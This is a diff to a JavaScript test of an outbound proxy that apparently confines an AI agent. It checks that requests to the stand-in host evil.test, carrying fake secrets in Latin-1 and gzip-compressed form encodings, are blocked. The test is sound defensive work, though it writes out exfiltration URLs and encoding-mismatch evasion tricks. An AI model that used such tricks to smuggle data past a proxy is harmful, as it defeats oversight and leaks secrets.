@@ -120,7 +120,8 @@ t.test('through the real proxy: a Latin-1 page (also to a gzip form) and a heade
   t.equal(stdout, '200');
   t.equal((await viaCurl(proxy, 'GET', `http://evil.test:${port}/x?d=%C3%A9secret2`)).status, 403, 'the header echo is not followable');
   // The same in a gzip-compressed form: the description parses it as UTF-8 (U+FFFD), the server as Latin-1.
-  const form = zlib.gzipSync(Buffer.from(`q=${encodeURIComponent(`http://evil.test:${port}/x?d=`)}%E9secret3`));
+  // (A query of words: a form field that is a URL alone is held since the seventeenth pass, as a host may fetch it.)
+  const form = zlib.gzipSync(Buffer.from(`q=news+${encodeURIComponent(`http://evil.test:${port}/x?d=`)}%E9secret3`));
   t.equal(await postVia(airlock.proxyAddress.port, `bot:${agent.token}`, `${web.origin('search.test')}/form`, form), 200);
   t.equal((await viaCurl(proxy, 'GET', `http://evil.test:${port}/x?d=%C3%A9secret3`)).status, 403, 'the echo of a compressed form is not followable');
   t.notOk(all.some((h) => h.host === 'evil.test'), 'evil.test received nothing');
